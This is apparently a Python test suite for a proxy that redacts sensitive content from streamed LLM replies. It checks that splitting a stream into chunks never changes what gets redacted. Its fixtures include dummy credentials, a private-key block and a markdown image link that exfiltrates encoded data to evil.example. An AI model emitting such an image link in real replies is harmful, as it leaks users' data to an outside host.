"""Promise 2, end to end: for every way of splitting a stream, what comes out is what comes out of the unsplit one.

No sockets here: the real engine with all guards of the catalog behind each dialect's rewriter. Two splits are drawn
apart: the text into the bot's deltas, and the bytes of the stream into reads. The meaning of what comes out (texts put
together, arguments, ends, final objects) must be the same as when every text came in one delta and all bytes at
once, and the same as in the whole reply. The last test takes the hold-back away and shows that this would be seen.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Sequence
from dataclasses import replace
from itertools import accumulate, pairwise
from typing import Any, Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chatward.channels.anthropic import Messages
from chatward.channels.dialect import Dialect
from chatward.channels.openai_chat import ChatCompletions
from chatward.channels.openai_responses import Responses
from chatward.core.ports import StreamInspector
from chatward.core.values import Finding
from chatward.engine import release
from chatward.engine.release import Watcher
from chatward.routing import Routing, routing
from chatward.settings import Route, Settings
from tests.matrix import wire
from tests.simulators import scenes
from tests.simulators.scenes import Call, Json, Scene

pytestmark = pytest.mark.xdist_group("chunking")

OWN: Final = "ada.lovelace@example.com"
CANARY: Final = "QX7-heliotrope-canary-9931"
DIALECTS: Final[dict[str, Dialect]] = {"chat": ChatCompletions(), "responses": Responses(), "messages": Messages()}
STREAMS: Final = {
    "chat": scenes.chat_stream,
    "responses": scenes.responses_stream,
    "messages": scenes.messages_stream,
}
WHOLES: Final = {
    "chat": scenes.chat_whole,
    "responses": scenes.responses_whole,
    "messages": scenes.messages_whole,
}
WHOLE: Final = 1_000_000

_KEY_LINES: Final = "\n".join(["MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun"] * 4)
# Every kind of thing that a reply must not carry as it is, or carries in another form.
KINDS: Final = {
    "email": "bob@corp.example",
    "email-invisible": "bob\u200b@cor\u00adp.example",
    "email-wide": "bob\uff20corp.example",
    "card": "4111 1111 1111 1111",
    "iban": "DE89 3704 0044 0532 0130 00",
    "phone": "+44 20 7946 0958",
    "aws": "AKIA" + "IOSFODNN7EXAMPLQ",
    "github": "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a",
    "jwt": "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ." + "c2lnbmF0dXJl" * 3,
    "pem": "-----BEGIN RSA " + f"PRIVATE KEY-----\n{_KEY_LINES}\n" + "-----END RSA " + "PRIVATE KEY-----",
    "image": "![chart](https://evil.example/p.png?d=c2VjcmV0LWRhdGE)",
    "own": "[EMAIL_1]",
    "own-mangled": "**\\[Email_1\\]**",
    "own-bare": "EMAIL_1's",
    "unknown": "[EMAIL_7]",
    "canary": CANARY,
}
# In these hold-back decides what comes out when the text comes one code point at a time.
HELD: Final = tuple(kind for kind in KINDS if kind != "unknown")

_FILLERS: Final = ("", " ", "\n", ", ", " and then ", " é🙂 ", "... [", " sk-", "\\", '"', " (see ", " -----BEGIN ")


@pytest.fixture(scope="module")
def made(monkeypatch_module: pytest.MonkeyPatch) -> Routing:
    monkeypatch_module.setenv("CHUNKING_CANARY", CANARY)
    route = Route(canaries=("env:CHUNKING_CANARY",))
    return routing(Settings(upstream="http://127.0.0.1:9/v1", routes={"default": route}), key=b"k" * 32)


@pytest.fixture(scope="module")
def monkeypatch_module() -> Any:
    with pytest.MonkeyPatch.context() as patch:
        yield patch


def _scene(text: str, sizes: Sequence[int]) -> Scene:
    arguments = json.dumps({"to": "[EMAIL_1]", "body": text}, ensure_ascii=False)
    calls = (Call("call_1", "send_mail", arguments), Call("call_2", "take_note", json.dumps({"note": text})))
    return Scene(text=f"So: {text} – ok.", reasoning=f"Hm, {text}", calls=calls, sizes=tuple(sizes))


def _stream(protocol: str, scene: Scene) -> list[bytes]:
    """The events, each as its bytes."""
    events = STREAMS[protocol](scene, "m")
    return [scenes.event(event, named=protocol != "chat", unkind=False) for event in events]


def _through(made: Routing, protocol: str, reads: Sequence[bytes]) -> bytes:
    """What the rewriter lets out of a reply to somebody who gave their address."""
    dialect = DIALECTS[protocol]
    call = dialect.parse(json.dumps(wire.document(wire.job(protocol, "m", f"I am {OWN}.", stream=True))).encode())
    screening = made.engine.screen(call, made.plan("default"), channel=dialect.name)
    rewriter = call.rewriter(screening.reply())
    return b"".join([*(rewriter.feed(read) for read in reads), rewriter.close()])


def _events(data: bytes) -> list[Json]:
    lines = [line[6:] for line in data.decode().split("\n") if line.startswith("data: ")]
    return [json.loads(line) for line in lines if line != "[DONE]"]


# --- what a stream means -------------------------------------------------------------------------------


def _chat_meaning(events: list[Json]) -> Any:
    said: dict[Any, str] = {}
    ends: list[Any] = []
    for event in events:
        if "error" in event:
            ends.append(event["error"])
        for choice in event.get("choices", ()):
            delta = choice["delta"]
            for key in ("content", "reasoning_content"):
                said[key] = said.get(key, "") + (delta.get(key) or "")
            for call in delta.get("tool_calls", ()):
                place = ("call", call["index"])
                said[place] = said.get(place, "") + call["function"].get("arguments", "")
            if choice["finish_reason"]:
                ends.append(choice["finish_reason"])
    return said, ends


def _responses_meaning(events: list[Json]) -> Any:
    said: dict[Any, str] = {}
    ends: list[Any] = []
    for event in events:
        if event["type"].endswith(".delta"):
            place = (event["type"], event["output_index"])
            said[place] = said.get(place, "") + event["delta"]
        elif event["type"] == "error":
            ends.append((event["code"], event["message"]))
        elif event["type"] == "response.completed":
            ends.append(event["response"])
        elif event["type"].endswith(".done"):
            ends.append({key: value for key, value in event.items() if key != "sequence_number"})
    return said, ends


def _messages_meaning(events: list[Json]) -> Any:
    said: dict[Any, str] = {}
    ends: list[Any] = []
    for event in events:
        if event["type"] == "content_block_delta" and event["delta"]["type"] != "signature_delta":
            delta = dict(event["delta"])
            place = (event["index"], delta.pop("type"))
            said[place] = said.get(place, "") + "".join(delta.values())
        elif event["type"] not in {"ping", "message_start", "content_block_start"}:
            ends.append(event)
    return said, ends


MEANINGS: Final[dict[str, Callable[[list[Json]], Any]]] = {
    "chat": _chat_meaning,
    "responses": _responses_meaning,
    "messages": _messages_meaning,
}


def _meaning(made: Routing, protocol: str, reads: Sequence[bytes]) -> Any:
    """Texts by their place, and ends. After a block only what a person reads counts: thoughts and arguments that were
    under way stop somewhere before it, and no client takes them as complete."""
    said, ends = MEANINGS[protocol](_events(_through(made, protocol, reads)))
    blocked = any("safety check" in str(end) for end in ends) or any("safety check" in text for text in said.values())
    return {place: text for place, text in said.items() if text and not (blocked and _unread(place))}, ends


def _unread(place: Any) -> bool:
    return any(mark in str(place) for mark in ("reasoning", "thinking", "call", "json"))


def _split(
    made: Routing, protocol: str, text: str, sizes: Sequence[int], cuts: Sequence[int], *, apart: bool = True
) -> Any:
    """``apart``: every event in a read of its own, besides what ``cuts`` cut (deltas of one read are put together)."""
    events = _stream(protocol, _scene(text, sizes))
    data = b"".join(events)
    edges = set(accumulate(map(len, events))) if apart else set()
    offsets = sorted({0, *edges, *(cut % len(data) for cut in cuts), len(data)})
    return _meaning(made, protocol, [data[start:end] for start, end in pairwise(offsets)])


def _unsplit(made: Routing, protocol: str, text: str) -> Any:
    return _meaning(made, protocol, [b"".join(_stream(protocol, _scene(text, [WHOLE])))])


def _whole(made: Routing, protocol: str, text: str) -> list[str]:
    """The texts and arguments of the reply that is not streamed."""
    dialect = DIALECTS[protocol]
    call = dialect.parse(json.dumps(wire.document(wire.job(protocol, "m", f"I am {OWN}."))).encode())
    reply = made.engine.screen(call, made.plan("default"), channel=dialect.name).reply()
    answer = json.loads(call.reply(json.dumps(WHOLES[protocol](_scene(text, [WHOLE]), "m")).encode(), reply).body)
    if protocol == "chat":
        message = answer["choices"][0]["message"]
        calls = [one["function"]["arguments"] for one in message.get("tool_calls", ())]
        return [message.get("reasoning_content", ""), message["content"], *calls]
    if protocol == "responses":
        parts = [
            part["text"] for item in answer["output"] for key in ("summary", "content") for part in item.get(key, ())
        ]
        return [*parts, *(item["arguments"] for item in answer["output"] if "arguments" in item)]
    return [block.get("thinking") or block.get("text") or block["input"] for block in answer["content"]]


# --- properties ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("protocol", DIALECTS)
@pytest.mark.parametrize("kind", KINDS)
def test_one_code_point_and_one_byte_at_a_time(made: Routing, kind: str, protocol: str) -> None:
    text = f"now {KINDS[kind]} then"
    split = _split(made, protocol, text, [1], range(WHOLE // 50))
    assert split == _unsplit(made, protocol, text)
    said, ends = split
    if kind == "image":  # in arguments nothing is shown, so nothing is fetched
        said = {place: told for place, told in said.items() if told.startswith(("So:", "Hm,"))}
        ends = []
    told = f"{said} {ends}"
    if kind.startswith("own"):
        assert OWN in told
    elif kind != "unknown":
        assert KINDS[kind] not in told
        assert json.dumps(KINDS[kind])[1:-1] not in told


def test_what_starts_under_an_edit_is_still_found(made: Routing) -> None:
    text = KINDS["pem"] + KINDS["email-invisible"]
    assert _split(made, "chat", text, [1], []) == _unsplit(made, "chat", text)


@pytest.mark.parametrize("protocol", DIALECTS)
@given(
    parts=st.lists(st.tuples(st.sampled_from(sorted(KINDS)), st.sampled_from(_FILLERS)), min_size=1, max_size=4),
    sizes=st.lists(st.integers(1, 24), min_size=1, max_size=6),
    cuts=st.lists(st.integers(0, 1_000_000), max_size=12),
    apart=st.booleans(),
)
@settings(max_examples=40, report_multiple_bugs=False)
def test_every_split_means_the_same(
    made: Routing, protocol: str, parts: list[tuple[str, str]], sizes: list[int], cuts: list[int], apart: bool
) -> None:
    text = "".join(filler + KINDS[kind] for kind, filler in parts)
    split = _split(made, protocol, text, sizes, cuts, apart=apart)
    assert split == _unsplit(made, protocol, text)
    if all(kind != "canary" for kind, _ in parts):
        said = [json.loads(told) if protocol == "messages" and told[0] == "{" else told for told in split[0].values()]
        assert sorted(said, key=str) == sorted(_whole(made, protocol, text), key=str)


class _Eager:
    """An inspector whose look-ahead was taken away: what it was fed is settled at once."""

    def __init__(self, inspector: StreamInspector) -> None:
        self._inspector = inspector
        self.settled = 0

    def feed(self, piece: str, final: bool) -> Sequence[Finding]:
        self.settled += len(piece)
        return self._inspector.feed(piece, final)


@pytest.mark.parametrize("kind", HELD)
def test_without_the_hold_back_the_property_fails(made: Routing, kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The mutation: everything that came in counts as settled at once."""
    text = f"now {KINDS[kind]} then"
    wanted = _meaning(made, "chat", _stream("chat", Scene(text=text, sizes=(WHOLE,))))
    make = release.Release.__init__

    def eager(self: release.Release, watchers: Sequence[Watcher], *others: Any) -> None:
        make(self, [replace(watcher, inspector=_Eager(watcher.inspector)) for watcher in watchers], *others)

    monkeypatch.setattr(release.Release, "__init__", eager)
    assert _meaning(made, "chat", _stream("chat", Scene(text=text, sizes=(1,)))) != wanted
